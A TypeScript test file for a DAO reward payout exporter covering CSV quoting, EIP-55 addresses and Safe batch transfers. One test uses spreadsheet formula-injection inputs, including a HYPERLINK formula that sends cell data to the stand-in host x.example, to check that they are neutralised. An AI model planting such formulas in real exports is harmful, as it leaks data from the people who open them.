import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { z } from 'zod';
import { computeReport } from '../../src/core/report.ts';
import { formatUnits } from '../../src/format/units.ts';
import { checksumAddress } from '../../src/chain/address.ts';
import { batchChecksum, PayoutError, payoutCsv, payoutRows, safeBatch } from '../../src/results/payout.ts';
import { parseRoundFileText } from '../../src/roundfile/schema.ts';

const sample = parseRoundFileText(readFileSync(new URL('../../examples/governance-round-1.json', import.meta.url), 'utf8'));
// A handle with every character CSV must quote; members who earned points without a wallet get an empty one to be paid to.
const rewarded = computeReport(sample).rewards.amounts[0]!.member;
const data = {
  ...sample,
  members: sample.members.map((m, i) => ({
    ...m,
    handle: m.id === rewarded ? 'Smith, "Jr"\nthe second' : m.handle,
    wallets: m.wallets.length ? m.wallets : [{ chain: 'eip155:1', address: `0x${(0xbeef00 + i).toString(16).padStart(40, '0')}`, balance: 0n }],
  })),
};
const report = computeReport(data);
const rows = payoutRows(data, report);
const token = { address: '0xa1b2c3d4e5f60718293a4b5c6d7e8f9012345678', chainId: 1 };

/** RFC 4180, read independently of the writer: quoted fields, doubled quotes, CRLF rows. */
function parseCsv(text: string): string[][] {
  const out: string[][] = [];
  let row: string[] = [];
  let field = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') row.push(field), (field = '');
    else if (c === '\r' && text[i + 1] === '\n') row.push(field), out.push(row), (row = []), (field = ''), i++;
    else field += c;
  }
  return out;
}

/** The Transaction Builder's batch file (safe-global/safe-react-apps, apps/tx-builder/src/typings/models.ts). */
const batchSchema = z.strictObject({
  version: z.literal('1.0'),
  chainId: z.string().regex(/^\d+$/),
  createdAt: z.number().int().positive(),
  meta: z.strictObject({
    name: z.string(),
    description: z.string().optional(),
    txBuilderVersion: z.string().optional(),
    createdFromSafeAddress: z.string().optional(),
    createdFromOwnerAddress: z.string().optional(),
    checksum: z.string().regex(/^0x[0-9a-f]{64}$/).optional(),
  }),
  transactions: z.array(
    z.strictObject({
      to: z.string().regex(/^0x[0-9a-fA-F]{40}$/),
      value: z.string().regex(/^\d+$/),
      data: z.string().nullable().optional(),
      contractMethod: z.strictObject({ inputs: z.array(z.strictObject({ internalType: z.string(), name: z.string(), type: z.string() })), name: z.string(), payable: z.boolean() }),
      contractInputsValues: z.record(z.string(), z.string()),
    }),
  ),
});

describe('reward payout exports', () => {
  it('GIVEN the split THEN the CSV parses back to the report: members, addresses, tiers, exact amounts', () => {
    const [head, ...lines] = parseCsv(payoutCsv(rows, report.token));
    expect(head).toEqual(['member', 'handle', 'address', 'tier', 'points', 'amount_base_units', 'amount_AGIX']);
    expect(lines).toHaveLength(report.rewards.amounts.length);
    const byMember = new Map(report.members.map((m) => [m.id, m]));
    lines.forEach(([member, handle, address, tier, points, base, tokens], i) => {
      const expected = report.rewards.amounts[i]!;
      expect(member).toBe(expected.member);
      expect(handle).toBe(byMember.get(member!)!.handle);
      expect(BigInt(base!)).toBe(expected.amount);
      expect(tokens).toBe(formatUnits(expected.amount, 8).replace(/,/g, ''));
      expect(Number(points)).toBe(byMember.get(member!)!.points);
      expect(tier).toBe(byMember.get(member!)!.tier ?? '');
      expect(address!.toLowerCase()).toBe(data.members.find((m) => m.id === member)!.wallets.map((w) => w.address.toLowerCase()).sort()[0]);
    });
    expect(lines.some(([, handle]) => handle === 'Smith, "Jr"\nthe second')).toBe(true);
    expect(lines.reduce((s, l) => s + BigInt(l[5]!), 0n) + report.rewards.undistributed).toBe(report.rewards.pool);
  });

  it('GIVEN handles and a tier a spreadsheet would run as formulas THEN each is prefixed with a quote and quoted, and reads back as the text plus that quote', () => {
    const formulas = ['=HYPERLINK("http://x.example/?"&A1,"pay")', '+1+1', '-2+3', '@SUM(A1:A9)', '\tcmd', '\rcmd'];
    const members = report.rewards.amounts.slice(0, formulas.length).map((a) => a.member);
    const hostile = { ...data, members: data.members.map((m) => (members.includes(m.id) ? { ...m, handle: formulas[members.indexOf(m.id)]! } : m)) };
    const config = { ...hostile.round.config, tiers: { ...hostile.round.config.tiers, levels: hostile.round.config.tiers.levels.map((l) => (l.name === 'B' ? { ...l, name: '=1+2' } : l)) } as typeof hostile.round.config.tiers };
    const hostileReport = computeReport({ ...hostile, round: { ...hostile.round, config } });
    const csv = payoutCsv(payoutRows(hostile, hostileReport), hostileReport.token);
    const parsed = parseCsv(csv);
    for (const [i, formula] of formulas.entries()) expect(parsed.find((r) => r[0] === members[i])![1]).toBe(`'${formula}`);
    expect(csv).toContain('"\'=HYPERLINK(""http://x.example/?""&A1,""pay"")"');
    expect(parsed.filter((r) => r[3] === "'=1+2").length).toBeGreaterThan(0);
    // no field of any row starts with a formula character once read back
    for (const row of parsed) for (const field of row) expect(field).not.toMatch(/^[=+\-@\t\r]/);
  });

  it('GIVEN a token contract THEN the Safe batch has one transfer per recipient, valid, summing to the pool', () => {
    const batch = safeBatch(rows, report, token, new Date('2025-02-01T00:00:00Z'));
    const parsed = batchSchema.parse(JSON.parse(JSON.stringify(batch)));
    expect(parsed.chainId).toBe('1');
    expect(parsed.transactions).toHaveLength(rows.length);
    expect(new Set(parsed.transactions.map((t) => t.contractInputsValues['to'])).size).toBe(rows.length);
    for (const t of parsed.transactions) {
      expect(t.to).toBe(checksumAddress(token.address));
      expect(t.value).toBe('0');
      expect(t.contractMethod.name).toBe('transfer');
      expect(t.contractMethod.inputs.map((x) => `${x.type} ${x.name}`)).toEqual(['address to', 'uint256 amount']);
    }
    const sum = parsed.transactions.reduce((s, t) => s + BigInt(t.contractInputsValues['amount']!), 0n);
    expect(sum + report.rewards.undistributed).toBe(report.rewards.pool);
    expect(batch.meta.checksum).toBe(batchChecksum(batch));
    const tampered = { ...batch, transactions: batch.transactions.map((t, i) => (i === 0 ? { ...t, contractInputsValues: { ...t.contractInputsValues, amount: '1' } } : t)) };
    expect(batchChecksum(tampered)).not.toBe(batch.meta.checksum);
  });

  it('GIVEN addresses THEN they are EIP-55 checksummed', () => {
    // The examples of EIP-55 itself.
    expect(checksumAddress('0x5aaeb6053f3e94c9b9a09f33669435e7ef1beaed')).toBe('0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed');
    expect(checksumAddress('0xfb6916095ca1df60bb79ce92ce3ea74c37c5d359')).toBe('0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359');
  });

  it('GIVEN no token contract, or a recipient without a wallet THEN the batch is refused with the reason', () => {
    expect(() => safeBatch(rows, report, {}, new Date())).toThrow(PayoutError);
    expect(() => safeBatch(rows, report, {}, new Date())).toThrow('set token.address and token.chainId with /round config');
    const noWallet = rows.map((r, i) => (i === 2 ? { ...r, address: '' } : r));
    expect(() => safeBatch(noWallet, report, token, new Date())).toThrow(`no wallet to pay ${rows[2]!.handle}`);
  });
});
